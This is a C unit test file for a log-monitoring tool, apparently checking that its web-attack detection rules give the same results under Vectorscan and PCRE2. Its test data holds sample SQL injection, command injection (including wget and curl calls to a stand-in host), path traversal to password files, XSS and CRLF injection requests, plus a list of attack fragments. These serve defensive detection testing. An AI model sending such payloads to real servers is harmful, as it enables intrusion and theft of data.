/*
 * test_rules_hs.c — the |re values evaluated through Vectorscan databases (rules_hs.c) give
 * exactly PCRE2's answers: on the default web-attack rules (rules/web/web_attack.yml) against
 * real attack requests, benign ones and 30,000 hostile strings made of the expressions' own
 * pieces (fixed seed), and the fall-back to PCRE2 for what Vectorscan refuses; the scan memo
 * answers repeated targets as the scan did and never across rule sets.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "logwatch/rules_int.h"

#include "rules_load.h"

/* Every |re value of rs with its rule index, in load order. */
struct revals {
    struct lw_value *v[64];
    size_t rule[64];
    size_t n;
};

static void re_values(struct lw_ruleset *rs, struct revals *out)
{
    out->n = 0;
    for (size_t i = 0; i < rs->n; i++)
        for (size_t s = 0; s < rs->r[i].nsel; s++)
            for (size_t m = 0; m < rs->r[i].sel[s].nm; m++)
                for (size_t t = 0; t < rs->r[i].sel[s].m[m].nt; t++) {
                    struct lw_test *te = &rs->r[i].sel[s].m[m].t[t];
                    for (size_t k = 0; k < te->nv; k++)
                        if (te->v[k].op == LW_OP_RE && out->n < 64) {
                            out->rule[out->n] = i;
                            out->v[out->n++] = &te->v[k];
                        }
                }
}

/* A web request event for target t[0..n). */
static void web_event(struct lw_event *ev, const char *t, size_t n)
{
    memset(ev, 0, sizeof(*ev));
    ev->decoder = "web";
    ev->action = LW_ACT_INFO;
    ev->outcome = LW_OUT_SUCCESS;
    ev->method = (struct lw_slice){"GET", 3};
    ev->target = (struct lw_slice){t, n};
    ev->src = (struct lw_slice){"198.51.100.7", 12};
    ev->src_family = 4;
    ev->repeat = 1;
}

/* For target t: each |re value's Vectorscan answer equals PCRE2's, and each rule of the
 * Vectorscan set matches exactly when the same rule of the PCRE2-only set does. Returns the
 * number of values that matched. */
static size_t compare_one(struct lw_ruleset *hs, struct lw_ruleset *pc, const struct revals *rv,
                          const char *t, size_t n)
{
    struct lw_event ev;
    web_event(&ev, t, n);
    struct lw_evx x = {.ev = &ev}, y = {.ev = &ev};
    size_t hits = 0;
    for (size_t k = 0; k < rv->n; k++) {
        const struct lw_value *v = rv->v[k];
        bool want = pcre_says(v, t, n);
        bool got = v->hs_db ? lw_rules_hs_match(v, &x, ev.target) : want;
        if (got != want)
            fail_msg("expression %zu (rule %s) on \"%.*s\": Vectorscan %d, PCRE2 %d", k,
                     hs->r[rv->rule[k]].name, (int)n, t, got, want);
        hits += want;
    }
    for (size_t i = 0; i < hs->n; i++) {
        if (hs->r[i].corr || !hs->r[i].cond)
            continue;
        bool a = lw_rule_match(&hs->r[i], &x), b = lw_rule_match(&pc->r[i], &y);
        if (a != b)
            fail_msg("rule %s on \"%.*s\": with Vectorscan %d, PCRE2 alone %d", hs->r[i].name,
                     (int)n, t, a, b);
    }
    return hits;
}

/* The default rule set puts all five web-attack expressions into one database (the speed-up
 * is real, not a silent fall-back) and frees it with the set. */
static void test_default_rules_in_one_database(void **state)
{
    (void)state;
    struct lw_ruleset *rs = load_default();
    struct revals rv;
    re_values(rs, &rv);
    assert_int_equal(rv.n, 5);
    assert_int_equal(rs->nhs, 1);
    for (size_t k = 0; k < rv.n; k++) {
        assert_ptr_equal(rv.v[k]->hs_db, rs->hs_db[0]);
        assert_int_equal(rv.v[k]->hs_bit, k);
    }
    lw_rules_hs_drop(rs);
    for (size_t k = 0; k < rv.n; k++)
        assert_null(rv.v[k]->hs_db);
    lw_ruleset_free(rs);
}

/* Real attack requests and ordinary ones: same answers, and each class is found. */
static void test_default_rules_same_answers(void **state)
{
    (void)state;
    static const char *const targets[] = {
        "/search?q=1%27%20OR%20%271%27=%271",
        "/item?id=1 union all select username,password from users",
        "/item?id=1%20UNION%20SELECT%201,2,3",
        "/item?id=1/**/union/**/select/**/1",
        "/p?id=1'; DROP TABLE x--",
        "/p?q=sleep(5)",
        "/p?q=SLEEP%20(%205)",
        "/p?q=benchmark(1000000,md5(1))",
        "/p?q=1;waitfor delay '0:0:5'",
        "/x?t=information_schema.tables",
        "/cgi-bin/test.cgi?x=;cat%20/etc/passwd",
        "/ping?host=127.0.0.1|id",
        "/ping?host=1.1.1.1%7Cwhoami",
        "/a?x=$(uname -a)",
        "/a?x=%24%28wget%20http://e.example/x%29",
        "/a?x=`id`",
        "/a?x=1&&curl http://e.example",
        "/a?x=;cmd.exe",
        "/../../etc/passwd",
        "/static/..%2f..%2fetc%2fshadow",
        "/%2e%2e/%2e%2e/boot.ini",
        "/x?f=..%5c..%5cwindows%5cwin.ini",
        "/x?f=c:\\windows\\system32",
        "/x?f=%252e%252e%252fetc",
        "/q?s=<script>alert(1)</script>",
        "/q?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/q?s=<img src=x onerror=alert(1)>",
        "/q?s=javascript:alert(1)",
        "/q?s=%3csvg%20onload%3dalert(1)%3e",
        "/r?u=%0d%0aSet-Cookie:%20a=b",
        "/r?u=%0aLocation:%20http://e.example",
        "/r?u=%250d%250aX-Injected: 1",
        "/r?u=%0d%0aRefresh:0;url=http://e.example",
        "/",
        "/index.html",
        "/search?q=gate+3",
        "/static/css/site.4f2a.css",
        "/api/flights?from=HND&to=CTS&date=2026-11-26",
        "/news/2026/union-station-select-menu",
        "/help?q=cat+pictures",
        "/docs/..",
        "/images/a..b.png",
        "/p?q=it%27s%20fine",
        "/p?q=a;b",
        "/p?q=%0d%0a",
        "",
    };
    struct lw_ruleset *hs = load_default(), *pc = load_default();
    lw_rules_hs_drop(pc);
    struct revals rv;
    re_values(hs, &rv);
    /* twice: the second pass answers from the scan memo where the first one filled it */
    for (int pass = 0; pass < 2; pass++) {
        size_t matched = 0;
        for (size_t i = 0; i < sizeof(targets) / sizeof(targets[0]); i++)
            matched += compare_one(hs, pc, &rv, targets[i], strlen(targets[i])) > 0;
        assert_int_equal(matched, 33); /* the 33 attacks above, none of the 13 ordinary ones */
    }
    lw_ruleset_free(hs);
    lw_ruleset_free(pc);
}

/* 30,000 strings built from the expressions' own pieces, in upper and lower case, with NUL
 * bytes, newlines (before the end: `$`) and high bytes: same answers everywhere. */
static void test_default_rules_hostile_strings(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "union",
        " ",
        "%20",
        "+",
        "/*",
        "*/",
        "all",
        "select",
        "'",
        "%27",
        "%22",
        "or",
        "and",
        "=",
        "%3d",
        "like",
        "sleep",
        "(",
        "%28",
        "1",
        "benchmark",
        "information_schema",
        "waitfor",
        "delay",
        ";",
        "%3b",
        "--",
        "%23",
        "|",
        "%7c",
        "`",
        "%60",
        "$(",
        "%24",
        "&&",
        "%26%26",
        "cat",
        "id",
        "whoami",
        "wget",
        "nc",
        "bash",
        "sh",
        "cmd",
        ".exe",
        "..",
        "/",
        "\\",
        "%2f",
        "%5c",
        "%2e",
        "%252e",
        "/etc/",
        "passwd",
        "shadow",
        "c:",
        "windows",
        "win.ini",
        "<",
        "%3c",
        "script",
        "img",
        "svg",
        "javascript",
        ":",
        "%3a",
        "onerror",
        "onload",
        "document.cookie",
        "alert",
        "%0d",
        "%0a",
        "%250d",
        "set-cookie",
        "location",
        "x-a",
        "http/1",
        "\n",
        "a",
        "&",
        "UNION",
        "SeLeCt",
        "\xe3\x81\x82",
        "\xff",
        "\t",
        "x",
    };
    const size_t np = sizeof(pieces) / sizeof(pieces[0]);
    struct lw_ruleset *hs = load_default(), *pc = load_default();
    lw_rules_hs_drop(pc);
    struct revals rv;
    re_values(hs, &rv);
    uint64_t seed = 0x9e3779b97f4a7c15u;
    size_t hits = 0, misses = 0;
    char buf[512];
    for (int i = 0; i < 30000; i++) {
        size_t n = hostile_string(&seed, pieces, np, 12, buf, sizeof(buf));
        size_t h = compare_one(hs, pc, &rv, buf, n);
        hits += h;
        misses += rv.n - h;
    }
    assert_true(hits > 1000); /* both answers occur often: the comparison is not vacuous */
    assert_true(misses > 1000);
    lw_ruleset_free(hs);
    lw_ruleset_free(pc);
}

/* What Vectorscan refuses stays with PCRE2 and still answers; modifiers i, m, s carry over;
 * two fields get two databases. */
static void test_refused_and_modifiers(void **state)
{
    (void)state;
    static const char yaml[] = "title: r\nname: r\nlogsource: {category: webserver}\n"
                               "detection:\n"
                               "  a: {target|re: '(ab)\\1'}\n"        /* back-reference: refused */
                               "  b: {target|re: '(?<=x)yz'}\n"       /* look-behind */
                               "  c: {target|re: 'q*'}\n"             /* matches the empty string */
                               "  d: {target|re|i: 'union select'}\n" /* caseless */
                               "  e: {target|re|m: '^second$'}\n"     /* multi-line */
                               "  f: {target|re|s: 'one.two'}\n"      /* dot matches newline */
                               "  g: {target|re: 'one.two'}\n"        /* it does not */
                               "  h: {user|re: '^adm(in)?$'}\n"       /* another field */
                               "  i: {target|re: 'end$'}\n"           /* $ before a final newline */
                               "  condition: 1 of them\n"
                               "level: low\n";
    struct lw_ruleset *rs = load_text(yaml);
    struct revals rv;
    re_values(rs, &rv);
    assert_int_equal(rv.n, 9);
    assert_null(rv.v[0]->hs_db);
    assert_null(rv.v[2]->hs_db);
    for (size_t k = 3; k < rv.n; k++)
        assert_non_null(rv.v[k]->hs_db);
    assert_int_equal(rs->nhs, 2);
    assert_ptr_not_equal(rv.v[7]->hs_db, rv.v[3]->hs_db);
    static const struct {
        const char *t, *user;
        const char *want; /* which of a..i match */
    } cases[] = {
        {"xxababyy", "bob", "ac"},
        {"xyz", "bob", "bc"},
        {"UNION SELECT", "bob", "cd"},
        {"first\nsecond\nthird", "bob", "ce"},
        {"one\ntwo", "bob", "cf"},
        {"one-two", "admin", "cfgh"},
        {"the end\n", "administrator", "ci"},
        {"the end\nx", "adm", "ch"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct lw_event ev;
        web_event(&ev, cases[i].t, strlen(cases[i].t));
        ev.user = (struct lw_slice){cases[i].user, strlen(cases[i].user)};
        struct lw_evx x = {.ev = &ev};
        for (size_t k = 0; k < rv.n; k++) {
            struct lw_slice s = k == 7 ? ev.user : ev.target;
            bool got =
                rv.v[k]->hs_db ? lw_rules_hs_match(rv.v[k], &x, s) : pcre_says(rv.v[k], s.p, s.n);
            bool want = strchr(cases[i].want, (char)('a' + k)) != NULL;
            if (got != want)
                fail_msg("case %zu, selection %c: got %d, want %d", i, (char)('a' + k), got, want);
            assert_int_equal(pcre_says(rv.v[k], s.p, s.n), want);
        }
        assert_true(lw_rule_match(&rs->r[0], &x));
    }
    lw_ruleset_free(rs);
}

/* One |re test of target t through the first |re value of rs (a fresh event each time). */
static bool memo_match(struct lw_ruleset *rs, const char *t)
{
    struct revals rv;
    re_values(rs, &rv);
    assert_non_null(rv.v[0]->hs_db);
    struct lw_event ev;
    web_event(&ev, t, strlen(t));
    struct lw_evx x = {.ev = &ev};
    return lw_rules_hs_match(rv.v[0], &x, ev.target);
}

/* The scan memo: a repeated short target is answered without a scan, with the scan's answer;
 * a long one is scanned every time; turned off, nothing is remembered; and a reloaded rule set
 * is never answered from its predecessor's results (its database may sit at the freed one's
 * address: the memo keys on the database's number, not its address). */
static void test_scan_memo(void **state)
{
    (void)state;
    static const char yaml_a[] = "title: a\nname: a\nlogsource: {category: webserver}\n"
                                 "detection:\n  s: {target|re: 'abc'}\n  condition: s\n"
                                 "level: low\n";
    static const char yaml_b[] = "title: b\nname: b\nlogsource: {category: webserver}\n"
                                 "detection:\n  s: {target|re: 'xyz'}\n  condition: s\n"
                                 "level: low\n";
    struct lw_ruleset *a = load_text(yaml_a);
    struct lw_hs_memo_stats s0 = lw_rules_hs_memo_stats();
    assert_true(memo_match(a, "/p?q=xxabcxx"));
    struct lw_hs_memo_stats s1 = lw_rules_hs_memo_stats();
    assert_int_equal(s1.scans, s0.scans + 1);
    assert_int_equal(s1.hits, s0.hits);
    assert_true(memo_match(a, "/p?q=xxabcxx"));
    assert_false(memo_match(a, "/p?q=xxabdxx"));
    assert_false(memo_match(a, "/p?q=xxabdxx"));
    struct lw_hs_memo_stats s2 = lw_rules_hs_memo_stats();
    assert_int_equal(s2.scans, s1.scans + 1);
    assert_int_equal(s2.hits, s1.hits + 2);

    char longer[200]; /* over the memo's text size: scanned each time */
    memset(longer, 'q', sizeof(longer) - 1);
    longer[sizeof(longer) - 1] = 0;
    memcpy(longer + 150, "abc", 3);
    assert_true(memo_match(a, longer));
    assert_true(memo_match(a, longer));
    struct lw_hs_memo_stats s3 = lw_rules_hs_memo_stats();
    assert_int_equal(s3.scans, s2.scans + 2);
    assert_int_equal(s3.hits, s2.hits);

    lw_rules_hs_memo_enable(false);
    assert_true(memo_match(a, "/p?q=xxabcxx"));
    struct lw_hs_memo_stats s4 = lw_rules_hs_memo_stats();
    lw_rules_hs_memo_enable(true);
    assert_int_equal(s4.scans, s3.scans + 1);
    assert_int_equal(s4.hits, s3.hits);
    lw_ruleset_free(a);

    struct lw_ruleset *b = load_text(yaml_b);
    assert_false(memo_match(b, "/p?q=xxabcxx"));
    assert_true(memo_match(b, "/p?q=xxxyzxx"));
    struct lw_hs_memo_stats s5 = lw_rules_hs_memo_stats();
    assert_int_equal(s5.scans, s4.scans + 2);
    assert_int_equal(s5.hits, s4.hits);
    lw_ruleset_free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_default_rules_in_one_database),
        cmocka_unit_test(test_default_rules_same_answers),
        cmocka_unit_test(test_default_rules_hostile_strings),
        cmocka_unit_test(test_refused_and_modifiers),
        cmocka_unit_test(test_scan_memo),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
